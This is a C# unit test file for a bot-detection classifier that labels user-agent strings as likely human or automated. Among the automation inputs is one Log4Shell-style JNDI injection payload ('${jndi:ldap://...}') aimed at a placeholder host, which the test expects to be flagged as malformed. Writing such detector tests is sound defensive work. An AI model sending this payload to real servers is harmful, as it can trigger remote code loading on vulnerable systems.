using Weir.Detection;

namespace Weir.Tests.Claims;

public class AutomationTests
{
    [Theory]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0")]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1")]
    [InlineData("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.91 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (Linux; Android 4.4.2; M BOT 60 Build/KOT49H) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.116 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (Linux; Android 5.1; Robot 550 Build/LMY47D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/43.0.2357.121 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0")]
    [InlineData("Opera/9.80 (Windows NT 6.1; U; en) Presto/2.8.131 Version/11.11")]
    [InlineData("Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1")]
    [InlineData("Lynx/2.9.0dev.10 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.8")]
    [InlineData("Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)")]
    public void A_browser_or_phone_is_a_likely_human(string userAgent)
    {
        var verdict = Requests.Classify(userAgent, "203.0.113.9");

        Assert.Equal(VerdictKind.LikelyHuman, verdict.Kind);
        Assert.Equal(Identity.NotClaimed, verdict.Identity);
        Assert.InRange(verdict.Score, 0, 30);
    }

    [Theory]
    [InlineData("", Reason.UserAgentMissing)]
    [InlineData("-", Reason.UserAgentMissing)]
    [InlineData("   ", Reason.UserAgentMissing)]
    [InlineData("Mozilla/5.0", Reason.NotABrowserForm)]
    [InlineData("Acme Product Sync 3.1", Reason.NotABrowserForm)]
    [InlineData("Mozilla/5.0 (compatible; AcmeThing/1.0)", Reason.NotABrowserForm)]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36", Reason.HeadlessBrowser)]
    [InlineData("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 AcmeCrawler/2.0", Reason.AutomationWord)]
    [InlineData("Mozilla/5.0 (Linux; Android 14; AcmeBot/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36", Reason.AutomationWord)]
    [InlineData("acme-http-client/2.1", Reason.NotABrowserForm)]
    [InlineData("acme-python-sdk/2.1", Reason.ToolNamed)]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; AcmeAgent 3.0; rv:38.0) Gecko/20100101 Firefox/38.0", Reason.AutomationWord)]
    [InlineData("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 (+https://acme.example/)", Reason.ContactInUserAgent)]
    [InlineData("Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/120.0 (ops@acme.example)", Reason.ContactInUserAgent)]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Acme-Tool) Chrome/120.0.0.0 Safari/537.36", Reason.ImpossibleBrowser)]
    [InlineData("Mozilla/5.0 (Macintosh) Chrome/126.0.0.0 Safari/537.36", Reason.ImpossibleBrowser)]
    [InlineData("{{.UserAgent}}", Reason.UserAgentMalformed)]
    [InlineData("Mozilla/5.0 ${jndi:ldap://x.example/a}", Reason.UserAgentMalformed)]
    public void A_program_is_automation_with_its_reason(string userAgent, Reason reason)
    {
        var verdict = Requests.Classify(userAgent, "203.0.113.9");

        Assert.True(verdict.IsAutomated);
        Assert.True(verdict.Reasons.Has(reason), string.Join(", ", Names(verdict)));
        Assert.InRange(verdict.Score, 70, 100);
    }

    [Fact]
    public void An_address_in_a_cloud_proves_nothing()
    {
        // Addresses of large clouds; VPNs and readers live there.
        foreach (string address in (string[])["3.5.140.2", "34.64.0.5", "20.33.0.9", "2600:1f18::5"])
            Assert.Equal(VerdictKind.LikelyHuman, Requests.Classify(Requests.Chrome, address).Kind);
    }

    [Fact]
    public void One_missing_header_leaves_a_browser_a_likely_human_and_all_of_them_leave_it_open()
    {
        var withoutLanguage = Headers(accept: "*/*", language: "", encoding: "gzip");
        var bare = Headers(accept: "", language: "", encoding: "");
        var whole = Headers(accept: "text/html", language: "de", encoding: "gzip, br");

        Assert.Equal(VerdictKind.LikelyHuman, withoutLanguage.Kind);
        Assert.Equal(VerdictKind.Unknown, bare.Kind);
        Assert.True(whole.Confidence > withoutLanguage.Confidence && withoutLanguage.Confidence > bare.Confidence);
    }

    [Fact]
    public void A_log_without_headers_is_not_held_against_a_browser()
    {
        Assert.False(Requests.Classify(Requests.Chrome).Reasons.Has(Reason.AcceptLanguageMissing));
    }

    private static Verdict Headers(string accept, string language, string encoding) => Requests.Detector.Classify(new RequestFacts
    {
        TimeMs = Requests.Now.ToUnixTimeMilliseconds(),
        UserAgent = Requests.Chrome,
        Headers = new HeaderFacts { AreKnown = true, Accept = accept, AcceptLanguage = language, AcceptEncoding = encoding },
    });

    private static List<string> Names(Verdict verdict)
    {
        List<string> names = [];
        foreach (var reason in verdict.Reasons)
            names.Add(reason.ToName());
        return names;
    }
}
